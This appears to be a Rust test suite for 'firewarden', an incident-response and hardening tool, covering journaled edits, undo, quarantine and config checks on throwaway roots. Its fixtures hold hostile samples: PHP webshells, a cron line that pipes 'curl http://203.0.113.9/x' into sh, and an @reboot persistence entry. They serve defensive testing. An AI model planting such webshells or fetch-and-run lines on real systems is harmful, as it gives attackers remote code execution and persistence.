//! The plan → apply → journal → undo mechanism on throwaway roots, and the parsers that read
//! attacker-controlled files, under property tests.

use firewarden_model::action::{JournalEvent, Risk, Step};
use firewarden_respond::state::read_journal;
use firewarden_respond::{Actor, Error, Plan, Responder, StateDir, Target, contain, harden};
use proptest::prelude::*;
use std::path::Path;

fn responder(root: &Path, state: &Path) -> Responder {
    let target = Target::root(root).unwrap();
    Responder {
        state: StateDir::open(state).unwrap(),
        actor: Actor {
            operator: "tester".into(),
            host: target.hostname(),
            tool: "test".into(),
            tool_sha256: None,
        },
        target,
    }
}

fn write(root: &Path, path: &str, content: &[u8]) {
    let full = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(full, content).unwrap();
}

#[test]
fn a_failing_step_reverses_the_done_ones_and_is_journaled() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    write(root.path(), "/etc/a", b"one\n");
    write(root.path(), "/etc/b", b"two\n");
    let r = responder(root.path(), state.path());
    let mut plan = Plan::new("test", "two edits", Risk::Low, &r.target);
    plan.edit(&r.target, "/etc/a", b"ONE\n".to_vec()).unwrap();
    plan.edit(&r.target, "/etc/b", b"TWO\n".to_vec()).unwrap();
    // Someone changes b between plan and apply: the second step must refuse, the first undo.
    write(root.path(), "/etc/b", b"changed\n");
    let err = r.apply(plan).unwrap_err();
    assert!(
        matches!(
            err,
            Error::Failed {
                rolled_back: true,
                ..
            }
        ),
        "{err}"
    );
    assert_eq!(std::fs::read(root.path().join("etc/a")).unwrap(), b"one\n");
    assert_eq!(
        std::fs::read(root.path().join("etc/b")).unwrap(),
        b"changed\n"
    );
    let j = r.state.journal().unwrap();
    assert!(j.problems.is_empty());
    assert!(matches!(j.entries[0].event, JournalEvent::Begin { .. }));
    assert!(matches!(
        j.entries[1].event,
        JournalEvent::Failed {
            rolled_back: true,
            ..
        }
    ));
    assert!(
        r.undo("A1", false).is_err(),
        "a failed action has nothing to undo"
    );
}

#[test]
fn undo_changes_all_or_nothing() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    write(root.path(), "/etc/a", b"one\n");
    write(root.path(), "/etc/b", b"two\n");
    let r = responder(root.path(), state.path());
    let mut plan = Plan::new("test", "two edits", Risk::Low, &r.target);
    plan.edit(&r.target, "/etc/a", b"ONE\n".to_vec()).unwrap();
    plan.edit(&r.target, "/etc/b", b"TWO\n".to_vec()).unwrap();
    r.apply(plan).unwrap();
    // b is edited again after the action: undo must not half-happen (a back, b refused).
    write(root.path(), "/etc/b", b"someone else's\n");
    let err = r.undo("A1", false).unwrap_err();
    assert!(err.to_string().contains("nothing changed"), "{err}");
    assert_eq!(std::fs::read(root.path().join("etc/a")).unwrap(), b"ONE\n");
    assert_eq!(
        std::fs::read(root.path().join("etc/b")).unwrap(),
        b"someone else's\n"
    );
    // Forced, both come back; a second undo is refused as done.
    r.undo("A1", true).unwrap();
    assert_eq!(std::fs::read(root.path().join("etc/a")).unwrap(), b"one\n");
    assert_eq!(std::fs::read(root.path().join("etc/b")).unwrap(), b"two\n");
    assert!(r.undo("A1", true).is_err());
}

#[test]
fn sudo_rules_are_read_from_the_files_sudo_reads() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "/etc/sudoers", b"root ALL=(ALL) ALL\n");
    write(
        root.path(),
        "/etc/sudoers.d/deploy",
        b"deploy ALL=(ALL) NOPASSWD: ALL\n",
    );
    write(
        root.path(),
        "/etc/sudoers.d/old.bak",
        b"ops ALL=(ALL) NOPASSWD: ALL\n",
    );
    let target = Target::root(root.path()).unwrap();
    let item = harden::check(&target)
        .items
        .into_iter()
        .find(|i| i.id == "sudo.nopasswd")
        .unwrap();
    assert!(
        item.detail.contains("/etc/sudoers.d/deploy"),
        "{}",
        item.detail
    );
    assert!(
        !item.detail.contains("old.bak"),
        "sudo ignores names with a dot: {}",
        item.detail
    );
}

#[test]
fn a_damaged_vault_entry_is_refused_on_undo_and_nothing_is_written() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    write(root.path(), "/var/www/x.php", b"<?php system($_GET[1]);");
    let r = responder(root.path(), state.path());
    r.apply(contain::file(&r.target, "/var/www/x.php").unwrap())
        .unwrap();
    for e in std::fs::read_dir(state.path().join("vault"))
        .unwrap()
        .flatten()
    {
        let mut bytes = std::fs::read(e.path()).unwrap();
        let last = bytes.len() - 1;
        bytes[last] ^= 0xff;
        std::fs::write(e.path(), bytes).unwrap();
    }
    assert!(r.undo("A1", false).is_err());
    assert!(
        !root.path().join("var/www/x.php").exists(),
        "a damaged copy must not come back"
    );
}

#[test]
fn the_journal_holds_the_before_state_before_anything_changes() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    write(root.path(), "/etc/crontab", b"* * * * * root /tmp/x\n");
    let r = responder(root.path(), state.path());
    let mut plan = Plan::new("test", "edit", Risk::Low, &r.target);
    plan.edit(&r.target, "/etc/crontab", Vec::new()).unwrap();
    let a = r.apply(plan).unwrap();
    let j = read_journal(&state.path().join("journal.jsonl")).unwrap();
    let JournalEvent::Begin { action } = &j.entries[0].event else {
        panic!("first line is not the action")
    };
    let Step::File {
        before: Some(b), ..
    } = &action.steps[0]
    else {
        panic!("no before-state")
    };
    // The backup is in the vault, encrypted, and comes back verified.
    assert_eq!(r.extract(&b.sha256).unwrap(), b"* * * * * root /tmp/x\n");
    assert_eq!(j.entries[0].prev, firewarden_respond::state::CHAIN_START);
    assert_eq!(
        j.entries[1].prev,
        firewarden_respond::state::sha256_hex(
            std::fs::read_to_string(state.path().join("journal.jsonl"))
                .unwrap()
                .lines()
                .next()
                .unwrap()
                .as_bytes()
        )
    );
    assert_eq!(a.id, "A1");
}

#[test]
fn one_state_directory_is_changed_by_one_firewarden_at_a_time() {
    let state = tempfile::tempdir().unwrap();
    let _first = StateDir::open(state.path()).unwrap();
    let second = StateDir::open(state.path()).unwrap_err();
    assert!(
        second.to_string().contains("another firewarden"),
        "{second}"
    );
}

#[test]
fn a_planted_state_directory_is_refused() {
    let base = tempfile::tempdir().unwrap();
    let elsewhere = base.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, base.path().join("link")).unwrap();
    let err = StateDir::open(&base.path().join("link")).unwrap_err();
    assert!(err.to_string().contains("symbolic link"), "{err}");
    let open = base.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let err = StateDir::open(&open).unwrap_err();
    assert!(err.to_string().contains("not yours alone"), "{err}");
    assert!(
        std::fs::read_dir(&elsewhere).unwrap().next().is_none(),
        "nothing written through the link"
    );
}

#[test]
fn symlinks_never_lead_a_change_out_of_the_root() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "/secret", b"keep me\n");
    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(root.path().join("var/www")).unwrap();
    // An attacker's link to a file outside the root: quarantining it must not touch that file.
    std::os::unix::fs::symlink(
        outside.path().join("secret"),
        root.path().join("var/www/x.php"),
    )
    .unwrap();
    let state = tempfile::tempdir().unwrap();
    let r = responder(root.path(), state.path());
    assert!(contain::file(&r.target, "/var/www/x.php").is_err());
    // A directory link is followed inside the root only: /etc -> / resolves to the root.
    std::os::unix::fs::symlink("/", root.path().join("etc")).unwrap();
    assert!(contain::file(&r.target, "/etc/secret").is_err());
    assert_eq!(
        std::fs::read(outside.path().join("secret")).unwrap(),
        b"keep me\n"
    );
}

#[test]
fn sysctl_fix_goes_where_it_wins_at_boot() {
    let root = tempfile::tempdir().unwrap();
    write(
        root.path(),
        "/etc/sysctl.conf",
        b"# defaults\nkernel.kptr_restrict = 0\nvm.swappiness=10\n",
    );
    std::fs::create_dir_all(root.path().join("etc/sysctl.d")).unwrap();
    let state = tempfile::tempdir().unwrap();
    let r = responder(root.path(), state.path());
    // The key is set in sysctl.conf (read last): that line is changed in place.
    let plan = harden::plan(&r.target, "kernel.kptr_restrict").unwrap();
    r.apply(plan).unwrap();
    assert_eq!(
        std::fs::read_to_string(root.path().join("etc/sysctl.conf")).unwrap(),
        "# defaults\nkernel.kptr_restrict = 1\nvm.swappiness=10\n"
    );
    // A key set nowhere goes into our drop-in.
    let plan = harden::plan(&r.target, "kernel.dmesg_restrict").unwrap();
    r.apply(plan).unwrap();
    let dropin = std::fs::read_to_string(
        root.path()
            .join("etc/sysctl.d/99-zz-firewarden-hardening.conf"),
    )
    .unwrap();
    assert!(dropin.contains("kernel.dmesg_restrict = 1"));
    let score = harden::check(&r.target);
    for id in ["kernel.kptr_restrict", "kernel.dmesg_restrict"] {
        let item = score.items.iter().find(|i| i.id == id).unwrap();
        assert_eq!(
            item.status,
            firewarden_model::action::HardenStatus::Pass,
            "{id}"
        );
    }
    r.undo_all(false).unwrap();
    assert!(
        !root
            .path()
            .join("etc/sysctl.d/99-zz-firewarden-hardening.conf")
            .exists()
    );
}

#[test]
fn password_logins_stay_on_when_sshd_is_configured_by_an_include_first() {
    let root = tempfile::tempdir().unwrap();
    write(
        root.path(),
        "/etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\n",
    );
    write(
        root.path(),
        "/etc/ssh/sshd_config.d/50-cloud-init.conf",
        b"PasswordAuthentication yes\n",
    );
    let target = Target::root(root.path()).unwrap();
    let score = harden::check(&target);
    let item = score
        .items
        .iter()
        .find(|i| i.id == "ssh.password_auth")
        .unwrap();
    // sshd takes the first value it reads: the include's `yes` wins over the later `no`.
    assert_eq!(
        item.status,
        firewarden_model::action::HardenStatus::Fail,
        "{}",
        item.detail
    );
    assert!(
        item.detail.contains("50-cloud-init.conf"),
        "{}",
        item.detail
    );
}

#[test]
fn eradicating_a_line_leaves_every_other_byte_alone_even_invalid_utf8() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let crontab: &[u8] = b"# \xff\xfe planted junk\r\n*/5 * * * * root curl http://203.0.113.9/x | sh\r\n@daily root /usr/bin/true";
    write(root.path(), "/etc/crontab", crontab);
    let r = responder(root.path(), state.path());
    let finding = firewarden_model::Finding::new(
        "linux.persistence.cron",
        "Cron job",
        firewarden_model::Severity::Critical,
    )
    .evidence(
        firewarden_model::Evidence::at("/etc/crontab")
            .line(2)
            .excerpt("*/5 * * * * root curl http://203.0.113.9/x | sh"),
    );
    let plan = firewarden_respond::eradicate::plan(&r.target, &finding).unwrap();
    r.apply(plan).unwrap();
    assert_eq!(
        std::fs::read(root.path().join("etc/crontab")).unwrap(),
        b"# \xff\xfe planted junk\r\n@daily root /usr/bin/true"
    );
    // The same finding again: the line is gone, so the plan is refused, not guessed.
    assert!(firewarden_respond::eradicate::plan(&r.target, &finding).is_err());
    r.undo("A1", false).unwrap();
    assert_eq!(
        std::fs::read(root.path().join("etc/crontab")).unwrap(),
        crontab
    );
}

#[test]
fn a_webshell_with_a_hostile_name_is_quarantined_and_comes_back_under_that_name() {
    use std::os::unix::ffi::OsStrExt;
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let name = std::ffi::OsStr::from_bytes(b"sh\xffell\n.php");
    let dir = root.path().join("var/www/html");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(name), b"<?php @eval($_POST['c']); ?>").unwrap();
    // Triage names it as display_path prints it.
    let shown = firewarden_source::display_path(&std::path::Path::new("/var/www/html").join(name));
    assert_eq!(shown, "/var/www/html/sh\\xffell\\n.php");
    let r = responder(root.path(), state.path());
    let finding = firewarden_model::Finding::new(
        "linux.web.webshell",
        "Webshell",
        firewarden_model::Severity::Critical,
    )
    .evidence(firewarden_model::Evidence::at(shown));
    let plan = firewarden_respond::eradicate::plan(&r.target, &finding).unwrap();
    r.apply(plan).unwrap();
    assert!(!dir.join(name).exists());
    r.undo("A1", false).unwrap();
    assert_eq!(
        std::fs::read(dir.join(name)).unwrap(),
        b"<?php @eval($_POST['c']); ?>"
    );
}

#[test]
fn a_user_crontab_edit_touches_the_spool_so_cron_reloads_it() {
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    write(
        root.path(),
        "/var/spool/cron/crontabs/root",
        b"@reboot /tmp/.x/run\n0 3 * * * /usr/local/bin/backup\n",
    );
    let spool = root.path().join("var/spool/cron/crontabs");
    let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
    std::fs::File::open(&spool)
        .unwrap()
        .set_modified(old)
        .unwrap();
    let r = responder(root.path(), state.path());
    let finding = firewarden_model::Finding::new(
        "linux.persistence.cron",
        "Cron job",
        firewarden_model::Severity::High,
    )
    .evidence(
        firewarden_model::Evidence::at("/var/spool/cron/crontabs/root")
            .line(1)
            .excerpt("@reboot /tmp/.x/run"),
    );
    let plan = firewarden_respond::eradicate::plan(&r.target, &finding).unwrap();
    assert!(
        plan.render().contains("touch /var/spool/cron/crontabs"),
        "{}",
        plan.render()
    );
    r.apply(plan).unwrap();
    assert!(
        std::fs::metadata(&spool).unwrap().modified().unwrap() > old,
        "the spool's mtime did not move"
    );
    assert_eq!(
        std::fs::read(spool.join("root")).unwrap(),
        b"0 3 * * * /usr/local/bin/backup\n"
    );
    std::fs::File::open(&spool)
        .unwrap()
        .set_modified(old)
        .unwrap();
    r.undo("A1", false).unwrap();
    assert!(
        std::fs::metadata(&spool).unwrap().modified().unwrap() > old,
        "undo must make cron reload too"
    );
}

#[test]
fn public_datastores_fail_unless_they_ask_for_credentials() {
    let root = tempfile::tempdir().unwrap();
    // Redis on 0.0.0.0:6379 with a password, Docker's API on 0.0.0.0:2375, MySQL on 127.0.0.1,
    // in the kernel's full row format.
    let row = |sl: u32, addr: &str| {
        format!(
            "{sl:4}: {addr} 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 {} 1 0 100 0 0 10 0\n",
            1000 + sl
        )
    };
    let header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
    let table = |rows: &[String]| format!("{header}{}", rows.concat());
    write(
        root.path(),
        "/proc/net/tcp",
        table(&[
            row(0, "00000000:18EB"),
            row(1, "00000000:0947"),
            row(2, "0100007F:0CEA"),
        ])
        .as_bytes(),
    );
    write(
        root.path(),
        "/etc/redis/redis.conf",
        b"bind 0.0.0.0\nrequirepass s3cret\n",
    );
    let target = Target::root(root.path()).unwrap();
    let item = |t: &Target| {
        harden::check(t)
            .items
            .into_iter()
            .find(|i| i.id == "services.public_datastore")
            .unwrap()
    };
    let i = item(&target);
    assert_eq!(
        i.status,
        firewarden_model::action::HardenStatus::Fail,
        "{}",
        i.detail
    );
    assert!(
        i.detail.contains("Docker API (no TLS) on 0.0.0.0:2375"),
        "{}",
        i.detail
    );
    assert!(
        i.detail
            .contains("asking for credentials: Redis on 0.0.0.0:6379"),
        "{}",
        i.detail
    );
    assert!(
        !i.detail.contains("MySQL"),
        "loopback is fine: {}",
        i.detail
    );
    // Without the Docker listener, Redis with a password passes.
    write(
        root.path(),
        "/proc/net/tcp",
        table(&[row(0, "00000000:18EB")]).as_bytes(),
    );
    assert!(
        item(&target).detail.contains("Redis on 0.0.0.0:6379"),
        "the listener is still seen"
    );
    assert_eq!(
        item(&target).status,
        firewarden_model::action::HardenStatus::Pass
    );
}

proptest! {
    #[test]
    fn line_edits_keep_untouched_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300), pick in any::<u8>()) {
        // Keeping every line gives back the very same bytes.
        let (same, n) = firewarden_respond::map_lines(&bytes, |_| firewarden_respond::LineEdit::Keep);
        prop_assert_eq!(&same, &bytes);
        prop_assert_eq!(n, 0);
        // Deleting lines only ever removes whole lines: what is left is a subsequence of them.
        let mut i = 0u8;
        let (fewer, _) = firewarden_respond::map_lines(&bytes, |_| {
            i = i.wrapping_add(1);
            if i % 3 == pick % 3 { firewarden_respond::LineEdit::Delete } else { firewarden_respond::LineEdit::Keep }
        });
        let lines: Vec<&[u8]> = bytes.split_inclusive(|b| *b == b'\n').collect();
        let mut rest: &[u8] = &fewer;
        for l in lines {
            if rest.starts_with(l) {
                rest = &rest[l.len()..];
            }
        }
        prop_assert!(rest.is_empty());
    }

    #[test]
    fn shadow_locking_touches_only_that_account(lines in proptest::collection::vec("[a-z]{1,6}(:[!*$a-z0-9]{0,8}){0,9}", 0..8), user in "[a-z]{1,6}") {
        let shadow = lines.join("\n") + "\n";
        if let Some(new) = contain::lock_in_shadow(&shadow, &user) {
            let old: Vec<&str> = shadow.lines().collect();
            let got: Vec<&str> = new.lines().collect();
            prop_assert_eq!(old.len(), got.len());
            for (o, g) in old.iter().zip(&got) {
                if o.split(':').next() != Some(user.as_str()) {
                    prop_assert_eq!(o, g);
                } else {
                    let f: Vec<&str> = g.split(':').collect();
                    prop_assert!(f[1].starts_with('!'));
                    prop_assert_eq!(f[7], "1");
                }
            }
            // Locking twice changes nothing more.
            prop_assert!(contain::lock_in_shadow(&new, &user).is_none());
        }
    }

    #[test]
    fn hostile_config_files_never_panic_the_harden_check(sshd in proptest::collection::vec(any::<u8>(), 0..400), sudo in proptest::collection::vec(any::<u8>(), 0..200), tcp in "[ 0-9A-F:]{0,200}") {
        let root = tempfile::tempdir().unwrap();
        write(root.path(), "/etc/ssh/sshd_config", &sshd);
        write(root.path(), "/etc/sudoers", &sudo);
        write(root.path(), "/etc/sysctl.conf", &sshd);
        write(root.path(), "/proc/net/tcp", format!("header\n{tcp}\n").as_bytes());
        let target = Target::root(root.path()).unwrap();
        let score = harden::check(&target);
        prop_assert_eq!(score.items.len(), harden::ITEMS.len());
    }

    #[test]
    fn a_corrupt_journal_is_reported_never_a_panic(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("journal.jsonl");
        std::fs::write(&path, &bytes).unwrap();
        let j = read_journal(&path).unwrap();
        prop_assert!(bytes.iter().all(|b| b.is_ascii_whitespace()) || !j.problems.is_empty() || !j.entries.is_empty());
    }
}
